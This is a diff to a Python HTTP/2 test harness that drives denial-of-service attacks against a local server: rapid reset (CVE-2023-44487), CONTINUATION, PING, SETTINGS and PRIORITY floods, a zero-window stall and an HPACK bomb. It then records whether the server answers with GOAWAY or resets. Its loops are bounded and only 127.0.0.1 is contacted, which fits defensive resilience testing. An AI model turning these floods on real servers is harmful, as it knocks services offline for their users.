@@ -5,6 +5,10 @@ Usage: h2_attack.py MODE PORT [PATH]. Prints one JSON object: what the attacker 
   rapid_reset   10,000 HEADERS + RST_STREAM pairs (CVE-2023-44487)
   continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the connection ends (2024 flood)
   ping_flood    100,000 PINGs without reading a single ACK
+  settings_flood 100,000 SETTINGS frames without reading a single ACK
+  priority_flood 100,000 PRIORITY frames (nothing to acknowledge: only the budget stops them)
+  wait_goaway   (not an attack) one request, prints "ready", then waits up to 30 s for the server's GOAWAY
+  zero_window   a request for a large body with the client's windows held at 0, never read further
   hpack_bomb    one 4 KiB header in the dynamic table, then a request referencing it 1,000 times
   websocket     (not an attack) a stream-service subscription over HTTP/2's extended CONNECT
 Every loop is bounded in count and time, and only 127.0.0.1 is contacted.
@@ -126,19 +130,25 @@ def continuation(port, path):
     return {"sent": sent, "goaway": code, "closed": closed}
 
 
-def ping_flood(port, _path):
+def flood(port, batches, batch_frames):
+    """Sends the byte strings `batches()` yields (each holding `batch_frames` frames) after the preface, until
+    the server ends the connection, the batches run out or the deadline passes; then what the server said."""
     sock = connect(port)
     send_all(sock, PREFACE + SETTINGS_EMPTY)
-    pings = frame(0x6, 0, 0, b"12345678") * 1000
     sent = 0
-    for _ in range(100):
-        if not send_all(sock, pings):
+    for batch in batches():
+        if not send_all(sock, batch):
             break
-        sent += 1000
+        sent += batch_frames
         if time.monotonic() > DEADLINE:
             break
     _, code, closed = drain(sock, 10)
     return {"sent": sent, "goaway": code, "closed": closed}
+
+
+def ping_flood(port, _path):
+    pings = frame(0x6, 0, 0, b"12345678") * 1000
+    return flood(port, lambda: (pings for _ in range(100)), 1000)
 
 
 def read_frames(sock, seconds, want):
@@ -234,8 +244,80 @@ def websocket(port, path):
     return result
 
 
+def settings_flood(port, _path):
+    settings = frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) * 1000  # MAX_CONCURRENT_STREAMS, each needs an ACK
+    return flood(port, lambda: (settings for _ in range(100)), 1000)
+
+
+def priority_flood(port, _path):
+    # PRIORITY for idle streams: legal one by one, and the server owes no answer to any of them.
+    def batches():
+        for i in range(100):
+            yield b"".join(frame(0x2, 0, 1 + 2 * (i * 1000 + j), struct.pack(">IB", 0, 15)) for j in range(1000))
+    return flood(port, batches, 1000)
+
+
+def zero_window(port, path):
+    """Initial window 0: the server may send headers but no DATA. The stream must be reset once it made no
+    progress for the idle timeout, and the connection must go on serving a second request meanwhile."""
+    sock = connect(port)
+    send_all(sock, PREFACE + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0)) + frame(0x4, 0x1, 0, b""))
+    encoder = hpack.Encoder()
+    send_all(sock, frame(0x1, 0x5, 1, encoder.encode(request_headers(port, path))))
+    decoder = hpack.Decoder()
+    result = {"status": None, "reset": None, "data": 0, "goaway": None}
+    started = time.monotonic()
+
+    def done(frames):
+        for kind, flags, stream, body in frames[len(done.seen):]:
+            done.seen.append(kind)
+            if kind == 0x1 and stream == 1:
+                result["status"] = int(dict(decoder.decode(body))[":status"])
+            elif kind == 0x0 and stream == 1:
+                result["data"] += len(body)
+            elif kind == 0x3 and stream == 1:
+                result["reset"] = int.from_bytes(body[:4], "big")
+                result["reset_after_s"] = round(time.monotonic() - started, 1)
+            elif kind == 0x7:
+                result["goaway"] = int.from_bytes(body[4:8], "big")
+        return result["reset"] is not None or result["goaway"] is not None
+    done.seen = []
+    read_frames(sock, 30, done)
+    return result
+
+
+def wait_goaway(port, path):
+    """Not an attack: one request answered, then the connection is left open; what ends it (a reload that
+    removes or re-binds the listener) must be a GOAWAY, not a bare close."""
+    sock = connect(port)
+    send_all(sock, PREFACE + SETTINGS_EMPTY + frame(0x4, 0x1, 0, b""))
+    encoder = hpack.Encoder()
+    send_all(sock, frame(0x1, 0x5, 1, encoder.encode(request_headers(port, path))))
+    decoder = hpack.Decoder()
+    result = {"status": None, "goaway": None, "last_stream": None}
+
+    def answered(frames):
+        for kind, flags, stream, body in frames:
+            if kind == 0x1 and stream == 1 and result["status"] is None:
+                result["status"] = int(dict(decoder.decode(body))[":status"])
+        return result["status"] is not None
+    read_frames(sock, 15, answered)
+    print("ready", flush=True)
+
+    def goaway(frames):
+        for kind, flags, stream, body in frames:
+            if kind == 0x7:
+                result["last_stream"] = int.from_bytes(body[:4], "big") & 0x7FFFFFFF
+                result["goaway"] = int.from_bytes(body[4:8], "big")
+        return result["goaway"] is not None
+    read_frames(sock, 30, goaway)
+    return result
+
+
 MODES = {"rapid_reset": rapid_reset, "continuation": continuation, "ping_flood": ping_flood,
-         "hpack_bomb": hpack_bomb, "websocket": websocket}
+         "hpack_bomb": hpack_bomb, "websocket": websocket,
+         "settings_flood": settings_flood, "priority_flood": priority_flood, "zero_window": zero_window,
+         "wait_goaway": wait_goaway}
 
 if __name__ == "__main__":
     mode, port = sys.argv[1], int(sys.argv[2])
